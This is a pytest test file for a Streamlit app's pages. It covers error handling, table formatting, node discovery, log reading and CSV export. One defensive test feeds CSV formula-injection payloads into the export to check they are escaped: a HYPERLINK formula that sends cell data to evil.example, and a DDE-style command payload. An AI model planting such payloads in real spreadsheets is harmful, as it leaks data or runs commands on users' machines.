"""What pages share: an action that may fail, and tables whose numbers are words."""

import csv
import ctypes
import io
import sys
from collections.abc import Mapping
from pathlib import Path
from types import MappingProxyType, SimpleNamespace
from typing import Any

import pandas as pd
import pytest
import streamlit as st

from core import Environment, Run, StoreError, WorkerError
from core.base.words import bytes_, percent
from core.views.blocks import Column, Table
from pages import menu
from pages.gate import greeting
from pages.session import server, shown
from pages.session.actions import attempt
from pages.session.downloads import table_as_csv
from pages.session.server import environment
from pages.session.shown import open_shown
from pages.session.tables import in_words, newly_picked
from tests.support.apps import forget, opened, titles
from tests.support.engines import until
from tests.support.homes import add_scenario


def refuse() -> int:
    raise StoreError("there is no such run")


def test_what_fails_is_reported_and_gives_nothing() -> None:
    said: list[str] = []
    assert attempt(refuse, said.append) is None
    assert said == ["there is no such run"]
    assert attempt(lambda: 3, said.append) == 3


def test_a_mistake_of_ours_is_not_hidden() -> None:
    with pytest.raises(ZeroDivisionError):
        attempt(lambda: 1 // 0, lambda _: None)


def test_a_table_sorts_by_numbers_and_reads_as_words() -> None:
    frame = pd.DataFrame({"name": ["a", "b"], "read": [2_048, None], "share": [0.123, 1.0]})
    told = in_words(frame, {"read": bytes_, "share": percent, "written": bytes_})
    assert told.to_string(delimiter="|").split("\n")[1:3] == ["0|a|2.05 kB|12.3 %", "1|b||100 %"]
    assert list(told.data["read"]) == pytest.approx([2_048, float("nan")], nan_ok=True)


def test_a_table_with_more_cells_than_can_be_styled_is_shown_as_it_is() -> None:
    frame = pd.DataFrame({"read": [1, 2]})
    with pd.option_context("styler.render.max_elements", 1):
        assert in_words(frame, {"read": bytes_}) is frame
    with pd.option_context("styler.render.max_elements", 2):
        assert in_words(frame, {"read": bytes_}) is not frame


class Nodes:
    """An engine whose nodes come later."""

    names: tuple[str, ...] = ()
    devices: Mapping[str, str] = MappingProxyType({})

    def nodes(self, _device: str) -> tuple[str, ...]:
        return self.names

    def environment(self) -> Environment:
        if not self.names:
            raise WorkerError("no node has answered yet")
        return Environment(devices=dict(self.devices))


def test_devices_of_nodes_are_offered_as_the_nodes_come(monkeypatch: pytest.MonkeyPatch) -> None:
    engine = Nodes()
    forget()
    monkeypatch.setattr(server, "the_runner", lambda: SimpleNamespace(engine=engine))
    until(lambda: environment() == Environment(problem="no node has answered yet"))
    engine.names, engine.devices = ("a",), {"cpu": "Xeon on a"}
    until(lambda: environment() == Environment(devices={"cpu": "Xeon on a"}))
    engine.names, engine.devices = ("a", "b"), {"cpu": "Xeon on a, b"}
    assert environment() == Environment(devices={"cpu": "Xeon on a, b"})
    forget()


def test_what_was_picked_before_is_not_picked_again(monkeypatch: pytest.MonkeyPatch) -> None:
    selected: list[tuple[int, str]] = []
    selection = SimpleNamespace(selection=SimpleNamespace(cells=selected))
    monkeypatch.setattr(st, "dataframe", lambda *_args, **_look: selection)
    monkeypatch.setattr(st, "session_state", {})
    said = []
    for now in ([], [(1, "x")], [(1, "y")], [(0, "x")], [], [(0, "x")], [(7, "x")]):
        selected[:] = now
        said.append(newly_picked(None, ["a", "b"], "table"))
    assert said == [None, "b", None, "a", None, "a", None]


def test_a_large_log_is_read_by_another_process_while_the_page_says_so(
    empty_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run_id = add_scenario(empty_home, "eager_backend")
    ended: list[int | None] = [None]
    monkeypatch.setattr(shown, "LARGE_LOG_BYTES", 1_000)
    monkeypatch.setattr(shown, "is_stored", lambda _: False)
    monkeypatch.setattr(shown, "start_reading", lambda _: SimpleNamespace(poll=lambda: ended[0]))
    app = opened(menu.OVERVIEW.script, run_id)
    assert titles(app) == ["Reading the log…"]
    assert opened(menu.KERNELS.script, run_id).title[0].value == "Reading the log…"
    ended[0] = 0
    assert "1 graph" in titles(opened(menu.OVERVIEW.script, run_id))[0]
    monkeypatch.setattr(shown, "LARGE_LOG_BYTES", 10**9)
    ended[0] = None
    assert "1 graph" in titles(opened(menu.OVERVIEW.script, run_id))[0]


@pytest.mark.parametrize(("platform", "trimmed"), [("linux", [0]), ("darwin", [])])
def test_memory_is_given_back_to_the_system_where_the_c_library_can(
    monkeypatch: pytest.MonkeyPatch, platform: str, trimmed: list[int]
) -> None:
    asked: list[int] = []
    monkeypatch.setattr(ctypes, "CDLL", lambda _: SimpleNamespace(malloc_trim=asked.append))
    monkeypatch.setattr(sys, "platform", platform)
    greeting.give_back()
    assert asked == trimmed


def test_a_run_that_is_deleted_while_it_is_opened_is_no_error(
    empty_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run_id = add_scenario(empty_home, "eager_backend")
    assert open_shown(run_id) is not None
    monkeypatch.setattr(Run, "log_path", lambda run: run.trace_dir / "deleted.log")
    assert open_shown(run_id) is None


@pytest.mark.promise("text")
def test_a_table_for_a_spreadsheet_holds_no_formula() -> None:
    """CSV files from pages contain no formula."""
    texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1", "\uff1d1"]
    rows = [*zip([*texts, "a = b", ""], [-1.5, 2.0, 3, 4, 5, 6, 7, None], strict=True)]
    columns: tuple[Column[Any], ...] = (Column("=1+1", lambda row: row[0]), Column("number", lambda row: row[1]))
    written = list(csv.reader(io.StringIO(table_as_csv(Table("cells", columns, rows)))))
    assert written[0] == ["'=1+1", "number"]
    assert [row[0] for row in written[1:]] == [*(f"'{text}" for text in texts), "a = b", ""]
    assert [row[1] for row in written[1:3]] == ["-1.5", "2.0"]
